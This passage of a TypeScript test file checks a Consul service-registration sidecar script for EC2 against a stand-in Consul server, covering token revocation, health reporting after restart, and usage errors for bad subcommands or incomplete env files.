    expect(standIn.state.nodes.has('lambda-mesh-ml-ec2-log-service')).toBe(true);
    expect([...standIn.state.loginTokens.values()].some((l) => l.SecretID === token)).toBe(false);
    const reused = await consulClient(standIn.connection(token), { retryDelayMs: 1 }).get('/v1/catalog/node/lambda-mesh-ml-ec2-log-service').then(() => 'accepted', (e: Error) => e.message);
    expect(reused).toMatch(/ACL not found/);
    expect(sandbox.exists('run/token')).toBe(false);
    expect(sandbox.calls('docker').slice(-1).map((c) => c.argv)).toEqual([['rm', '-f', 'app', 'consul-dataplane']]);
  });

  test('a restart (stop, then boot) reports health again: the new registration starts critical whatever was reported before', async () => {
    expect((await boot()).result.status).toBe(0);
    const envoy = await httpServer(() => 200);
    const app = await httpServer(() => 200);
    try {
      expect((await health(envoy.port, app.port)).status).toBe(0);
      expect((await sandbox.run('main stop', port())).status).toBe(0);
      sandbox.setLoginToken(loginAs('LogServiceInstanceRole'));
      expect((await sandbox.run('main boot', port())).status).toBe(0);
      standIn.resetRequests();
      const run = await health(envoy.port, app.port);
      expect(messages(run)).toEqual([`health of log-service-${INSTANCE_ID}: passing (app and sidecar healthy)`]);
      expect(registrations().map((r) => (r.Checks as Array<{ Status: string }>).map((c) => c.Status))).toEqual([['passing', 'passing']]);
    } finally {
      await envoy.close();
      await app.close();
    }
  });

  test('fails with the usage on an unknown subcommand, and names what the env file lacks', async () => {
    mkdirSync(dirname(sandbox.envFile), { recursive: true });
    writeFileSync(sandbox.envFile, "SERVICE='log-service'\n");
    const incomplete = await sandbox.run('main boot', port());
    expect({ status: incomplete.status, messages: messages(incomplete) }).toEqual({ status: 1, messages: [`${sandbox.envFile} does not set SERVICE_PORT`] });

    const data = userDataOf(t, 'LogService');
    sandbox.putS3Object(/aws s3 cp '(s3:\/\/[^']+)'/.exec(data)![1], readFileSync(stagedScript()));
    expect((await sandbox.runUserData(data)).status).toBe(0);
    const unknown = await sandbox.run('main restart', port());
    expect({ status: unknown.status, messages: messages(unknown) }).toEqual({ status: 1, messages: ['usage: ec2-sidecar.sh install|boot|health|stop'] });
    expect(standIn.requests).toEqual([]);
  });
});
